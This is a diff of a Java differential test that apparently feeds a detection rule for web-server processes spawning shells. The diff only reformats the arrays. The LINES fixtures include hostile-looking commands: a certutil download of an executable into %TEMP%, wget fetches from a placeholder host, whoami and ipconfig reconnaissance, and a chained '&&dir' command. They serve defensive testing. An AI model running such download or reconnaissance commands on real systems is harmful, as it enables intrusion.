@@ -23,15 +23,37 @@ class DifferentialTest {
   @TempDir Path stateDir;
 
   static final String[] PARENTS = {
-    "w3wp.exe", "W3WP.EXE", "tomcat8.exe", "Tomcat9w.exe", "httpd.exe", "beasvc.exe",
-    "explorer.exe", "ws_TomcatService.exe", "services.exe", null
+    "w3wp.exe",
+    "W3WP.EXE",
+    "tomcat8.exe",
+    "Tomcat9w.exe",
+    "httpd.exe",
+    "beasvc.exe",
+    "explorer.exe",
+    "ws_TomcatService.exe",
+    "services.exe",
+    null
   };
-  static final String[] FILES = {"cmd.exe", "CMD.EXE", "powershell.exe", "PowerShell.EXE", "pwsh.exe", "csc.exe", null};
+  static final String[] FILES = {
+    "cmd.exe", "CMD.EXE", "powershell.exe", "PowerShell.EXE", "pwsh.exe", "csc.exe", null
+  };
   static final String[] LINES = {
-    "cmd.exe /c whoami", "cmd /c whoami /all", "cmd /c ipconfig /all", "cmd /c ping -n 1 10.0.0.5",
-    "cmd /c ping_sweep.bat", "cmd /c mapping.bat", "cmd /c certutil -urlcache -f http://x/a %TEMP%\\a.exe",
-    "cmd /c copy a %temp%\\b", "powershell -c systeminfo", "cmd /c timeout /t 3", "cmd /c wget64 http://x",
-    "cmd /c wget http://x", "cmd /c echo hello", "cmd /c pinger", "cmd /c \"whoami\"&&dir", null
+    "cmd.exe /c whoami",
+    "cmd /c whoami /all",
+    "cmd /c ipconfig /all",
+    "cmd /c ping -n 1 10.0.0.5",
+    "cmd /c ping_sweep.bat",
+    "cmd /c mapping.bat",
+    "cmd /c certutil -urlcache -f http://x/a %TEMP%\\a.exe",
+    "cmd /c copy a %temp%\\b",
+    "powershell -c systeminfo",
+    "cmd /c timeout /t 3",
+    "cmd /c wget64 http://x",
+    "cmd /c wget http://x",
+    "cmd /c echo hello",
+    "cmd /c pinger",
+    "cmd /c \"whoami\"&&dir",
+    null
   };
 
   @ParameterizedTest(name = "seed {0}")
